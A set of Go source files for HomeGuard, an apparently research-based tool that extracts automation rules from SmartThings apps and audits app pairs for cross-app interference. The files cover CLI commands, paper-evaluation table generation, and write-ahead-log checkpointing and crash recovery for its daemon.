		// sub-benchmark slashes are kept.
		if i := strings.LastIndexByte(name, '-'); i > 0 {
			if _, err := strconv.Atoi(name[i+1:]); err == nil {
				name = name[:i]
			}
		}
		iters, err := strconv.ParseInt(fields[1], 10, 64)
		if err != nil {
			continue // header or summary line
		}
		r := Result{Iterations: iters}
		// The remainder alternates value / unit.
		for i := 2; i+1 < len(fields); i += 2 {
			val, err := strconv.ParseFloat(fields[i], 64)
			if err != nil {
				break
			}
			switch unit := fields[i+1]; unit {
			case "ns/op":
				r.NsPerOp = val
			case "B/op":
				r.BytesPerOp = val
			case "allocs/op":
				r.AllocsPerOp = val
			default:
				if r.Extra == nil {
					r.Extra = map[string]float64{}
				}
				r.Extra[unit] = val
			}
		}
		out[name] = r
	}
	return out, sc.Err()
}
