// Command benchtables regenerates every table and figure of the paper's
// evaluation and prints them, together with the scalar measurements of
// Sec. VIII-C. Run with no arguments for everything, or select items:
//
//	benchtables -table 1 -table 3 -fig 8
//	benchtables -exp extraction -exp messaging
package main

import (
	"flag"
	"fmt"
	"time"

	"homeguard/internal/experiments"
)

type multiFlag []string

func (m *multiFlag) String() string { return fmt.Sprint([]string(*m)) }

func (m *multiFlag) Set(v string) error {
	*m = append(*m, v)
	return nil
}

func main() {
	var tables, figs, exps multiFlag
	flag.Var(&tables, "table", "table number to print (1-5); repeatable")
	flag.Var(&figs, "fig", "figure number to print (8 or 9); repeatable")
	flag.Var(&exps, "exp", "scalar experiment: extraction | messaging; repeatable")
	flag.Parse()

	all := len(tables) == 0 && len(figs) == 0 && len(exps) == 0
	want := func(list multiFlag, v string) bool {
		if all {
			return true
		}
		for _, x := range list {
			if x == v {
				return true
			}
		}
		return false
	}

	if want(tables, "1") {
		fmt.Println(experiments.FormatTable1())
	}
	if want(tables, "2") {
		text, _ := experiments.Table2()
		fmt.Println(text)
	}
	if want(tables, "3") {
		fmt.Println(experiments.FormatTable3())
	}
	if want(tables, "4") {
		fmt.Println(experiments.FormatTable4())
	}
	if want(tables, "5") {
		fmt.Println(experiments.FormatTable5())
	}
	if want(figs, "8") {
		fmt.Println(experiments.FormatFig8(experiments.Fig8()))
	}
	if want(figs, "9") {
		fmt.Println(experiments.FormatFig9(experiments.Fig9()))
	}
	if want(exps, "extraction") {
		st := experiments.MeasureExtraction()
		fmt.Println("Rule extraction (Sec. VIII-B/C):")
		fmt.Printf("  apps analysed:        %d (paper: 146)\n", st.Apps)
		fmt.Printf("  handled cleanly:      %d (paper: 124 before fixes)\n", st.Correct)
		fmt.Printf("  with warnings:        %d\n", st.WithWarnings)
		fmt.Printf("  total rules:          %d\n", st.TotalRules)
		fmt.Printf("  mean time per app:    %v (paper: 1341 ms on an i7-6700)\n",
			st.MeanPerApp.Round(time.Microsecond))
		fmt.Printf("  mean rule-file size:  %d bytes (paper: ≈6.2 KB)\n\n", st.MeanRuleBytes)
	}
	if want(exps, "messaging") {
		sms, http := experiments.MeasureMessaging()
		fmt.Println("Configuration collection (Sec. VIII-C, 100 trials):")
		fmt.Printf("  cloud processing: 27 ms (modeled)\n")
		fmt.Printf("  SMS  mean latency: %v (paper: 3120 ms)\n", sms.Round(time.Millisecond))
		fmt.Printf("  HTTP mean latency: %v (paper: 1058 ms)\n", http.Round(time.Millisecond))
	}
}
