// Command homeguard is the HomeGuard CLI: extract rules from SmartApp
// sources, instrument apps for configuration collection, audit a directory
// of apps pairwise, and describe corpus apps.
//
// Usage:
//
//	homeguard extract <file.groovy|corpus:Name>     print extracted rules
//	homeguard extract -json <file|corpus:Name>      print the rule file JSON
//	homeguard instrument <file|corpus:Name>         print instrumented source
//	homeguard audit <dir-with-.groovy|corpus>       pairwise CAI detection
//	homeguard describe <file|corpus:Name>           human-readable rules
//	homeguard recipe "<ifttt recipe text>"          NL rule extraction
//	homeguard corpus                                list corpus apps
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"homeguard"
	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/experiments"
	"homeguard/internal/frontend"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	cmd := os.Args[1]
	args := os.Args[2:]
	var err error
	switch cmd {
	case "extract":
		err = cmdExtract(args)
	case "instrument":
		err = cmdInstrument(args)
	case "audit":
		err = cmdAudit(args)
	case "describe":
		err = cmdDescribe(args)
	case "recipe":
		err = cmdRecipe(args)
	case "corpus":
		err = cmdCorpus()
	case "help", "-h", "--help":
		usage()
	default:
		usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "homeguard:", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage:
  homeguard extract [-json] <file.groovy|corpus:Name>
  homeguard instrument <file.groovy|corpus:Name>
  homeguard audit <dir|corpus>
  homeguard describe <file.groovy|corpus:Name>
  homeguard recipe "<ifttt recipe text>"
  homeguard corpus`)
}

// loadSource resolves "corpus:Name" or a file path.
func loadSource(arg string) (string, error) {
	if name, ok := strings.CutPrefix(arg, "corpus:"); ok {
		a, found := corpus.Get(name)
		if !found {
			return "", fmt.Errorf("unknown corpus app %q", name)
		}
		return a.Source, nil
	}
	b, err := os.ReadFile(arg)
	if err != nil {
		return "", err
	}
	return string(b), nil
}

func cmdExtract(args []string) error {
	fs := flag.NewFlagSet("extract", flag.ExitOnError)
	asJSON := fs.Bool("json", false, "print the rule-file JSON")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("extract needs exactly one source")
	}
	src, err := loadSource(fs.Arg(0))
	if err != nil {
		return err
	}
	res, err := homeguard.ExtractRules(src)
	if err != nil {
		return err
	}
	if *asJSON {
		b, err := rule.MarshalRuleSet(res.Rules)
		if err != nil {
			return err
		}
		fmt.Println(string(b))
		return nil
	}
	fmt.Printf("app: %s (%d rules, %d paths explored)\n",
		res.App.Name, len(res.Rules.Rules), res.Paths)
	for _, r := range res.Rules.Rules {
		fmt.Println(" ", r)
	}
	for _, w := range res.Warnings {
		fmt.Println("  warning:", w)
	}
	return nil
}

func cmdInstrument(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("instrument needs exactly one source")
	}
	src, err := loadSource(args[0])
	if err != nil {
		return err
	}
	out, err := homeguard.InstrumentApp(src)
	if err != nil {
		return err
	}
	fmt.Print(out)
	return nil
}

func cmdDescribe(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("describe needs exactly one source")
	}
	src, err := loadSource(args[0])
	if err != nil {
		return err
	}
	res, err := homeguard.ExtractRules(src)
	if err != nil {
		return err
	}
	fmt.Printf("%s — %s\n", res.App.Name, res.App.Description)
	for _, r := range res.Rules.Rules {
		fmt.Println("  •", homeguard.DescribeRule(r))
	}
	return nil
}

func cmdRecipe(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf(`recipe needs one quoted recipe string`)
	}
	r, err := homeguard.ParseRecipe("ifttt", args[0])
	if err != nil {
		return err
	}
	fmt.Println(homeguard.DescribeRule(r))
	fmt.Println("raw:", r)
	return nil
}

func cmdCorpus() error {
	for _, cat := range []corpus.Category{
		corpus.Demo, corpus.Benign, corpus.Notification,
		corpus.WebService, corpus.Malicious,
	} {
		apps := corpus.ByCategory(cat)
		fmt.Printf("%s (%d):\n", cat, len(apps))
		for _, a := range apps {
			extra := ""
			if a.Attack != "" {
				extra = " [" + a.Attack + "]"
			}
			fmt.Printf("  %s%s\n", a.Name, extra)
		}
	}
	return nil
}

func cmdAudit(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("audit needs a directory of .groovy files, or 'corpus'")
	}
	type loaded struct {
		name string
		src  string
	}
	var apps []loaded
	if args[0] == "corpus" {
		for _, a := range corpus.StoreAudit() {
			apps = append(apps, loaded{a.Name, a.Source})
		}
	} else {
		entries, err := filepath.Glob(filepath.Join(args[0], "*.groovy"))
		if err != nil {
			return err
		}
		if len(entries) == 0 {
			return fmt.Errorf("no .groovy files under %s", args[0])
		}
		for _, f := range entries {
			b, err := os.ReadFile(f)
			if err != nil {
				return err
			}
			apps = append(apps, loaded{strings.TrimSuffix(filepath.Base(f), ".groovy"), string(b)})
		}
	}
	// The all-pairs sweep runs on the parallel audit engine; findings come
	// back in the serial install order, so output is deterministic.
	inputs := make([]audit.App, 0, len(apps))
	for _, a := range apps {
		res, err := symexec.Extract(a.src, a.name)
		if err != nil {
			fmt.Printf("skip %s: %v\n", a.name, err)
			continue
		}
		inputs = append(inputs, audit.App{Res: res, Config: experiments.StoreConfig(res)})
	}
	ar := audit.Run(inputs, audit.Options{})
	total := 0
	for _, t := range ar.Threats() {
		fmt.Println("⚠", frontend.DescribeThreat(t))
		total++
	}
	st := ar.Stats
	fmt.Printf("\n%d apps, %d pairs checked, %d threats, %d solver calls (%d reused)\n",
		len(apps), st.PairsChecked, total, st.SolverCalls, st.SolverCacheHits)
	return nil
}
