// Command homeguard is the HomeGuard CLI: extract rules from SmartApp
// sources, instrument apps for configuration collection, audit a directory
// of apps pairwise (one-shot or continuously with -watch), drive a
// daemon's incremental app store over RPC, and describe corpus apps.
//
// Usage:
//
//	homeguard extract <file.groovy|corpus:Name>     print extracted rules
//	homeguard extract -json <file|corpus:Name>      print the rule file JSON
//	homeguard instrument <file|corpus:Name>         print instrumented source
//	homeguard audit <dir-with-.groovy|corpus>       pairwise CAI detection
//	homeguard audit -watch [-interval 2s] <dir>     continuous incremental
//	                                                audit: re-checks only the
//	                                                apps that changed and
//	                                                prints each revision's
//	                                                added/resolved findings
//	homeguard store [-addr :8081] submit <src...>   submit/update store apps
//	                                                on a daemon (SubmitApps)
//	homeguard store [-addr :8081] remove <name...>  remove store apps
//	homeguard store [-addr :8081] findings [-since N]  read the findings feed
//	homeguard describe <file|corpus:Name>           human-readable rules
//	homeguard recipe "<ifttt recipe text>"          NL rule extraction
//	homeguard corpus                                list corpus apps
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"homeguard"
	"homeguard/internal/api"
	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/experiments"
	"homeguard/internal/frontend"
	"homeguard/internal/rpc"
	"homeguard/internal/rule"
	"homeguard/internal/symexec"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	cmd := os.Args[1]
	args := os.Args[2:]
	var err error
	switch cmd {
	case "extract":
		err = cmdExtract(args)
	case "instrument":
		err = cmdInstrument(args)
	case "audit":
		err = cmdAudit(args)
	case "describe":
		err = cmdDescribe(args)
	case "recipe":
		err = cmdRecipe(args)
	case "store":
		err = cmdStore(args)
	case "corpus":
		err = cmdCorpus()
	case "help", "-h", "--help":
		usage()
	default:
		usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "homeguard:", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage:
  homeguard extract [-json] <file.groovy|corpus:Name>
  homeguard instrument <file.groovy|corpus:Name>
  homeguard audit [-watch] [-interval 2s] <dir|corpus>
  homeguard store [-addr :8081] submit <file.groovy|corpus:Name>...
  homeguard store [-addr :8081] remove <name>...
  homeguard store [-addr :8081] findings [-since N]
  homeguard describe <file.groovy|corpus:Name>
  homeguard recipe "<ifttt recipe text>"
  homeguard corpus`)
}

// loadSource resolves "corpus:Name" or a file path.
func loadSource(arg string) (string, error) {
	if name, ok := strings.CutPrefix(arg, "corpus:"); ok {
		a, found := corpus.Get(name)
		if !found {
			return "", fmt.Errorf("unknown corpus app %q", name)
		}
		return a.Source, nil
	}
	b, err := os.ReadFile(arg)
	if err != nil {
		return "", err
	}
	return string(b), nil
}

func cmdExtract(args []string) error {
	fs := flag.NewFlagSet("extract", flag.ExitOnError)
	asJSON := fs.Bool("json", false, "print the rule-file JSON")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return fmt.Errorf("extract needs exactly one source")
	}
	src, err := loadSource(fs.Arg(0))
	if err != nil {
		return err
	}
	res, err := homeguard.ExtractRules(src)
	if err != nil {
		return err
	}
	if *asJSON {
		b, err := rule.MarshalRuleSet(res.Rules)
		if err != nil {
			return err
		}
		fmt.Println(string(b))
		return nil
	}
	fmt.Printf("app: %s (%d rules, %d paths explored)\n",
		res.App.Name, len(res.Rules.Rules), res.Paths)
	for _, r := range res.Rules.Rules {
		fmt.Println(" ", r)
	}
	for _, w := range res.Warnings {
		fmt.Println("  warning:", w)
	}
	return nil
}

func cmdInstrument(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("instrument needs exactly one source")
	}
	src, err := loadSource(args[0])
	if err != nil {
		return err
	}
	out, err := homeguard.InstrumentApp(src)
	if err != nil {
		return err
	}
	fmt.Print(out)
	return nil
}

func cmdDescribe(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("describe needs exactly one source")
	}
	src, err := loadSource(args[0])
	if err != nil {
		return err
	}
	res, err := homeguard.ExtractRules(src)
	if err != nil {
		return err
	}
	fmt.Printf("%s — %s\n", res.App.Name, res.App.Description)
	for _, r := range res.Rules.Rules {
		fmt.Println("  •", homeguard.DescribeRule(r))
	}
	return nil
}

func cmdRecipe(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf(`recipe needs one quoted recipe string`)
	}
	r, err := homeguard.ParseRecipe("ifttt", args[0])
	if err != nil {
		return err
	}
	fmt.Println(homeguard.DescribeRule(r))
	fmt.Println("raw:", r)
	return nil
}

func cmdCorpus() error {
	for _, cat := range []corpus.Category{
		corpus.Demo, corpus.Benign, corpus.Notification,
		corpus.WebService, corpus.Malicious,
	} {
		apps := corpus.ByCategory(cat)
		fmt.Printf("%s (%d):\n", cat, len(apps))
		for _, a := range apps {
			extra := ""
			if a.Attack != "" {
				extra = " [" + a.Attack + "]"
			}
			fmt.Printf("  %s%s\n", a.Name, extra)
		}
	}
	return nil
}

func cmdAudit(args []string) error {
	fs := flag.NewFlagSet("audit", flag.ExitOnError)
	watch := fs.Bool("watch", false, "watch the directory and re-audit incrementally on change")
	interval := fs.Duration("interval", 2*time.Second, "poll interval for -watch")
	if err := fs.Parse(args); err != nil {
		return err
	}
	args = fs.Args()
	if len(args) != 1 {
		return fmt.Errorf("audit needs a directory of .groovy files, or 'corpus'")
	}
	if *watch {
		if args[0] == "corpus" {
			return fmt.Errorf("audit -watch needs a directory, not 'corpus'")
		}
		return watchAudit(args[0], *interval)
	}
	type loaded struct {
		name string
		src  string
	}
	var apps []loaded
	if args[0] == "corpus" {
		for _, a := range corpus.StoreAudit() {
			apps = append(apps, loaded{a.Name, a.Source})
		}
	} else {
		entries, err := filepath.Glob(filepath.Join(args[0], "*.groovy"))
		if err != nil {
			return err
		}
		if len(entries) == 0 {
			return fmt.Errorf("no .groovy files under %s", args[0])
		}
		for _, f := range entries {
			b, err := os.ReadFile(f)
			if err != nil {
				return err
			}
			apps = append(apps, loaded{strings.TrimSuffix(filepath.Base(f), ".groovy"), string(b)})
		}
	}
	// The all-pairs sweep runs on the parallel audit engine; findings come
	// back in the serial install order, so output is deterministic.
	inputs := make([]audit.App, 0, len(apps))
	for _, a := range apps {
		res, err := symexec.Extract(a.src, a.name)
		if err != nil {
			fmt.Printf("skip %s: %v\n", a.name, err)
			continue
		}
		inputs = append(inputs, audit.App{Res: res, Config: experiments.StoreConfig(res)})
	}
	ar := audit.Run(inputs, audit.Options{})
	total := 0
	for _, t := range ar.Threats() {
		fmt.Println("⚠", frontend.DescribeThreat(t))
		total++
	}
	st := ar.Stats
	fmt.Printf("\n%d apps, %d pairs checked, %d threats, %d solver calls (%d reused)\n",
		len(apps), st.PairsChecked, total, st.SolverCalls, st.SolverCacheHits)
	return nil
}

// watchAudit is the daemonless continuous mode: poll the directory (no
// inotify dependency — a stat sweep per tick is plenty for app-store
// sized directories), turn file adds/edits/deletes into auditor batches,
// and print each revision's findings delta. Unchanged files are never
// re-extracted and untouched pairs never re-solved.
func watchAudit(dir string, interval time.Duration) error {
	if interval <= 0 {
		interval = 2 * time.Second
	}
	type fileState struct {
		mtime time.Time
		size  int64
	}
	seen := map[string]fileState{} // app name -> last stat
	aud := audit.NewAuditor(audit.AuditorOptions{})
	fmt.Printf("watching %s (every %v, ctrl-c to stop)\n", dir, interval)
	for {
		entries, err := filepath.Glob(filepath.Join(dir, "*.groovy"))
		if err != nil {
			return err
		}
		var batch audit.Batch
		current := map[string]bool{}
		for _, f := range entries {
			name := strings.TrimSuffix(filepath.Base(f), ".groovy")
			current[name] = true
			info, err := os.Stat(f)
			if err != nil {
				continue // raced with a delete; next tick removes it
			}
			st := fileState{info.ModTime(), info.Size()}
			if prev, ok := seen[name]; ok && prev == st {
				continue
			}
			b, err := os.ReadFile(f)
			if err != nil {
				fmt.Printf("skip %s: %v\n", name, err)
				continue
			}
			seen[name] = st
			batch.Upserts = append(batch.Upserts, audit.App{Name: name, Source: string(b)})
		}
		for name := range seen {
			if !current[name] {
				delete(seen, name)
				batch.Removes = append(batch.Removes, name)
			}
		}
		if len(batch.Upserts) > 0 || len(batch.Removes) > 0 {
			rev, err := aud.Apply(batch)
			if err != nil {
				return err
			}
			fmt.Printf("[rev %d] %d apps, %d pairs re-checked in %v\n",
				rev.Rev, rev.Apps, rev.Pairs, rev.Duration.Round(time.Millisecond))
			for name, err := range rev.Errors {
				fmt.Printf("  skip %s: %v\n", name, err)
			}
			for _, f := range rev.Added {
				fmt.Printf("  + %s×%s: %s\n", f.App1, f.App2, frontend.DescribeThreat(f.Threat))
			}
			for _, f := range rev.Resolved {
				fmt.Printf("  - %s×%s: %s\n", f.App1, f.App2, frontend.DescribeThreat(f.Threat))
			}
		}
		time.Sleep(interval)
	}
}

// cmdStore drives a daemon's incremental app store over the framed RPC
// edge: submit/update apps, remove them, and read the findings feed.
func cmdStore(args []string) error {
	fs := flag.NewFlagSet("store", flag.ExitOnError)
	addr := fs.String("addr", "127.0.0.1:8081", "daemon RPC address")
	if err := fs.Parse(args); err != nil {
		return err
	}
	args = fs.Args()
	if len(args) == 0 {
		return fmt.Errorf("store needs a subcommand: submit, remove or findings")
	}
	c, err := rpc.Dial(*addr)
	if err != nil {
		return err
	}
	defer c.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	printDelta := func(added, resolved []api.Finding) {
		for _, f := range added {
			fmt.Printf("  + %s×%s: %s\n", f.App1, f.App2, f.Threat.Text)
		}
		for _, f := range resolved {
			fmt.Printf("  - %s×%s: %s\n", f.App1, f.App2, f.Threat.Text)
		}
	}

	switch sub, rest := args[0], args[1:]; sub {
	case "submit":
		if len(rest) == 0 {
			return fmt.Errorf("store submit needs at least one <file.groovy|corpus:Name>")
		}
		req := &api.SubmitAppsRequest{}
		for _, arg := range rest {
			if name, ok := strings.CutPrefix(arg, "corpus:"); ok {
				req.Upserts = append(req.Upserts, api.StoreApp{Corpus: name})
				continue
			}
			src, err := loadSource(arg)
			if err != nil {
				return err
			}
			req.Upserts = append(req.Upserts, api.StoreApp{
				Name:   strings.TrimSuffix(filepath.Base(arg), ".groovy"),
				Source: src,
			})
		}
		resp, err := c.SubmitApps(ctx, req)
		if err != nil {
			return err
		}
		fmt.Printf("rev %d: %d apps, %d pairs re-checked, +%d/-%d findings\n",
			resp.Rev, resp.Apps, resp.Pairs, len(resp.Added), len(resp.Resolved))
		for name, e := range resp.Errors {
			fmt.Printf("  skip %s: %s\n", name, e.Message)
		}
		printDelta(resp.Added, resp.Resolved)
		return nil
	case "remove":
		if len(rest) == 0 {
			return fmt.Errorf("store remove needs at least one app name")
		}
		resp, err := c.SubmitApps(ctx, &api.SubmitAppsRequest{Removes: rest})
		if err != nil {
			return err
		}
		fmt.Printf("rev %d: %d apps, +%d/-%d findings\n",
			resp.Rev, resp.Apps, len(resp.Added), len(resp.Resolved))
		for name, e := range resp.Errors {
			fmt.Printf("  skip %s: %s\n", name, e.Message)
		}
		printDelta(resp.Added, resp.Resolved)
		return nil
	case "findings":
		ffs := flag.NewFlagSet("store findings", flag.ExitOnError)
		since := ffs.Uint64("since", 0, "revision the feed was last read at")
		if err := ffs.Parse(rest); err != nil {
			return err
		}
		resp, err := c.Findings(ctx, &api.FindingsRequest{Since: *since})
		if err != nil {
			return err
		}
		if resp.Reset {
			fmt.Printf("rev %d (reset — revision %d aged out; full active set follows)\n", resp.Rev, resp.Since)
		} else {
			fmt.Printf("rev %d (since %d)\n", resp.Rev, resp.Since)
		}
		printDelta(resp.Added, resp.Resolved)
		return nil
	default:
		return fmt.Errorf("unknown store subcommand %q (want submit, remove or findings)", sub)
	}
}
