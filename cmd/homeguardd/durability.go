// Crash-safe durability for the daemon: with -wal-dir set, every fleet
// and store mutation is appended to a segmented write-ahead log before
// the client is acknowledged, and a background checkpointer periodically
// writes the full daemon state — extraction cache, pair verdicts, fleet
// homes, audited store — to one checkpoint file, then garbage-collects
// the log segments the checkpoint covers. Boot recovery restores the
// last checkpoint and replays the log's tail on top; per-entity LSN
// watermarks persisted in the checkpoint make the replay exactly-once.
// /readyz answers 503 for the whole recovery and flips to 200 only when
// the replayed state is serving.
//
// The checkpoint file is five snapcodec sections back to back: a meta
// section ("HGCKSNP\x00" v1, one JSON record naming the checkpoint LSN
// and which optional sections follow), then the extraction cache
// ("HGXCSNP\x00"), the pair-verdict cache ("HGPVSNP\x00"), the fleet
// homes ("HGFLSNP\x00") and the audited store ("HGAUSNP\x00"). A legacy
// cache-only snapshot (the pre-WAL -snapshot-path format, which starts
// directly with the extraction-cache magic) is recognized by its leading
// magic and restored as caches-plus-empty-state with watermark zero, so
// an upgraded daemon warm-starts from its old snapshot and rebuilds home
// state from the log.

package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"os"
	"path/filepath"
	"time"

	"homeguard/internal/audit"
	"homeguard/internal/extractcache"
	"homeguard/internal/fleet"
	"homeguard/internal/snapcodec"
	"homeguard/internal/wal"
)

// Checkpoint-file meta section identity.
const (
	ckptMagic   = "HGCKSNP\x00"
	ckptVersion = 1
)

// ckptMetaJSON is the meta section's single record.
type ckptMetaJSON struct {
	// LSN is the checkpoint LSN: every WAL record at or below it is
	// reflected in the sections that follow, so segments whose records
	// are all <= LSN are garbage.
	LSN uint64 `json:"lsn"`
	// Verdicts reports whether a pair-verdict section follows the
	// extraction-cache section (absent when the cache is disabled).
	Verdicts bool `json:"verdicts"`
}

// saveCheckpoint writes the full daemon state to a temp file and
// atomically renames it over path, then fsyncs the parent directory so
// the rename itself is durable. The checkpoint LSN is read BEFORE any
// state is captured: mutations precede their append under the same lock,
// so every record at or below it is already reflected in the capture
// (records appended during the capture may be partially reflected — the
// per-entity watermarks make replay skip exactly what each entity
// already holds).
func saveCheckpoint(path string, l *wal.Log, f *fleet.Fleet, aud *audit.Auditor) (uint64, error) {
	lsn := l.LastLSN()
	tmp := path + ".tmp"
	file, err := os.Create(tmp)
	if err != nil {
		return 0, err
	}
	fail := func(err error) (uint64, error) {
		file.Close()
		os.Remove(tmp)
		return 0, err
	}
	w := bufio.NewWriter(file)

	meta := ckptMetaJSON{LSN: lsn, Verdicts: f.Verdicts() != nil}
	sw, err := snapcodec.NewWriter(w, ckptMagic, ckptVersion)
	if err != nil {
		return fail(err)
	}
	rec, err := json.Marshal(meta)
	if err != nil {
		return fail(err)
	}
	if err := sw.Record(rec); err != nil {
		return fail(err)
	}
	if err := sw.Close(); err != nil {
		return fail(err)
	}
	if _, err := f.Cache().Snapshot(w); err != nil {
		return fail(err)
	}
	if v := f.Verdicts(); v != nil {
		if _, err := v.Snapshot(w); err != nil {
			return fail(err)
		}
	}
	if _, err := f.SnapshotHomes(w); err != nil {
		return fail(err)
	}
	if err := aud.Snapshot(w); err != nil {
		return fail(err)
	}

	if err := w.Flush(); err != nil {
		return fail(err)
	}
	if err := file.Sync(); err != nil {
		return fail(err)
	}
	if err := file.Close(); err != nil {
		os.Remove(tmp)
		return 0, err
	}
	if err := os.Rename(tmp, path); err != nil {
		os.Remove(tmp)
		return 0, err
	}
	// The rename is atomic but not durable until the directory entry is
	// flushed; without this a crash can revive the previous checkpoint
	// AFTER its covered segments were GC'd.
	if err := wal.SyncDir(filepath.Dir(path)); err != nil {
		return 0, err
	}
	return lsn, nil
}

// loadCheckpoint restores daemon state from path, returning the
// checkpoint LSN. A missing file is a cold start (LSN 0, replay the
// whole log). A legacy cache-only snapshot restores the caches and
// leaves state to the replay. A checkpoint that fails mid-restore is
// fatal: its covered log segments may already be collected, so serving
// from partial state would silently drop acknowledged operations.
func loadCheckpoint(path string, f *fleet.Fleet, aud *audit.Auditor) uint64 {
	file, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			log.Printf("homeguardd: no checkpoint at %s, recovering from the log alone", path)
			return 0
		}
		log.Fatalf("homeguardd: checkpoint open: %v", err)
	}
	defer file.Close()
	r := bufio.NewReader(file)
	magic, err := snapcodec.PeekMagic(r)
	if err != nil {
		log.Fatalf("homeguardd: checkpoint %s: %v", path, err)
	}
	if magic == extractcache.SnapshotMagic {
		// Pre-WAL snapshot: caches only, nothing the log must skip.
		loadCaches(r, path, f)
		return 0
	}
	if magic != ckptMagic {
		log.Fatalf("homeguardd: checkpoint %s: unrecognized magic %q", path, magic)
	}

	sr, err := snapcodec.NewReader(r, ckptMagic, ckptVersion)
	if err != nil {
		log.Fatalf("homeguardd: checkpoint %s: %v", path, err)
	}
	rec, err := sr.Next()
	if err != nil {
		log.Fatalf("homeguardd: checkpoint %s: meta: %v", path, err)
	}
	var meta ckptMetaJSON
	if err := json.Unmarshal(rec, &meta); err != nil {
		log.Fatalf("homeguardd: checkpoint %s: meta: %v", path, err)
	}
	if _, err := sr.Next(); err != io.EOF {
		log.Fatalf("homeguardd: checkpoint %s: meta section not closed (err %v)", path, err)
	}
	nx, err := f.Cache().Restore(r)
	if err != nil {
		log.Fatalf("homeguardd: checkpoint %s: extraction cache: %v", path, err)
	}
	nv := 0
	if meta.Verdicts {
		v := f.Verdicts()
		if v == nil {
			log.Fatalf("homeguardd: checkpoint %s has a verdict section but the cache is disabled", path)
		}
		if nv, err = v.Restore(r); err != nil {
			log.Fatalf("homeguardd: checkpoint %s: pair verdicts: %v", path, err)
		}
	}
	nh, err := f.RestoreHomes(r)
	if err != nil {
		log.Fatalf("homeguardd: checkpoint %s: fleet homes: %v", path, err)
	}
	if err := aud.Restore(r); err != nil {
		log.Fatalf("homeguardd: checkpoint %s: audit store: %v", path, err)
	}
	log.Printf("homeguardd: checkpoint restored from %s (lsn %d, %d extractions, %d pair verdicts, %d homes, store rev %d)",
		path, meta.LSN, nx, nv, nh, aud.Rev())
	return meta.LSN
}

// replayRecord dispatches one WAL record to its owner: audit-store
// batches to the auditor, everything else to the fleet.
func (s *server) replayRecord(lsn uint64, kind byte, payload []byte) error {
	if kind == wal.OpAuditBatch {
		return s.auditor.ReplayWALRecord(lsn, kind, payload)
	}
	return s.fleet.ReplayWALRecord(lsn, kind, payload)
}

// bootRecover is the WAL-mode boot path: restore the last checkpoint,
// open the log (repairing a torn tail), replay every record above each
// entity's watermark, and only then attach the log so replay is never
// re-appended. The caller flips /readyz to 200 after this returns.
func bootRecover(srv *server, walDir, ckptPath string, opts wal.Options) *wal.Log {
	start := time.Now()
	sp := srv.obs.Tracer.Start("wal.recover")
	loadCheckpoint(ckptPath, srv.fleet, srv.auditor)
	l, err := wal.Open(opts)
	if err != nil {
		log.Fatalf("homeguardd: wal open: %v", err)
	}
	replayed := 0
	if err := l.Replay(0, func(lsn uint64, kind byte, payload []byte) error {
		replayed++
		return srv.replayRecord(lsn, kind, payload)
	}); err != nil {
		log.Fatalf("homeguardd: wal replay: %v", err)
	}
	srv.fleet.AttachWAL(l)
	srv.auditor.AttachWAL(l)
	d := time.Since(start)
	l.SetRecoveryDuration(d)
	sp.SetInt("records", int64(replayed))
	sp.End()
	log.Printf("homeguardd: recovered from %s in %s (%d records replayed, last lsn %d, %d homes, store rev %d)",
		walDir, d.Round(time.Millisecond), replayed, l.LastLSN(), srv.fleet.NumHomes(), srv.auditor.Rev())
	return l
}

// checkpoint writes one checkpoint and collects the log segments it
// covers. Skipped while the log is failed: after a crash-stop the state
// may be ahead of the last durable record, and checkpointing it would
// persist un-acknowledged operations.
func checkpoint(path string, l *wal.Log, f *fleet.Fleet, aud *audit.Auditor) error {
	if err := l.Err(); err != nil {
		return fmt.Errorf("wal failed, not checkpointing: %w", err)
	}
	lsn, err := saveCheckpoint(path, l, f, aud)
	if err != nil {
		return err
	}
	removed, err := l.TruncateBefore(lsn + 1)
	if err != nil {
		return fmt.Errorf("segment gc: %w", err)
	}
	log.Printf("homeguardd: checkpoint at lsn %d written to %s (%d log segments collected)", lsn, path, removed)
	return nil
}

// runCheckpointer checkpoints every interval until ctx is canceled,
// replacing save-on-shutdown-only persistence: a crashed daemon's replay
// is bounded by one interval of log, not its whole uptime.
func runCheckpointer(ctx context.Context, interval time.Duration, path string, l *wal.Log, f *fleet.Fleet, aud *audit.Auditor) {
	t := time.NewTicker(interval)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			if err := checkpoint(path, l, f, aud); err != nil {
				log.Printf("homeguardd: checkpoint: %v", err)
			}
		}
	}
}
