package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"homeguard/internal/fleet"
	"homeguard/internal/wal"
)

// TestMain doubles as the crash-test daemon: when re-executed with
// HOMEGUARDD_TEST_DAEMON=1 the test binary runs the real main() with
// the flags TestDaemonCrashRecovery passes, so the SIGKILL lands on the
